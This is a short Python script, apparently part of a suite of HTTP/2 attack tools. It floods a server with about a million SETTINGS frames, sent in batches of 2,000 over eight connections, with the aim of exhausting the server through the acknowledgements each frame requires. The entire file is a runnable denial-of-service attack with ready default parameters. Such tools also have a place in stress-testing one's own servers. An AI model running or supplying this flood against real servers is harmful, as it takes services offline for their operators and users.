"""SETTINGS, each of which must be acknowledged, and nobody reads that."""
from attack_program import program
from h2wire import settings

AT_ONCE = 2_000


def run(attack):
    block = b"".join(settings(INITIAL_WINDOW_SIZE=65535 + i % 7, HEADER_TABLE_SIZE=4096 - i % 3) for i in range(AT_ONCE))
    attack.flood(lambda *_: block, attack.options.count // AT_ONCE, read=bool(attack.options.read))


if __name__ == "__main__":
    program(__doc__, run, count=1_000_000, connections=8, megabytes=40, read=0)
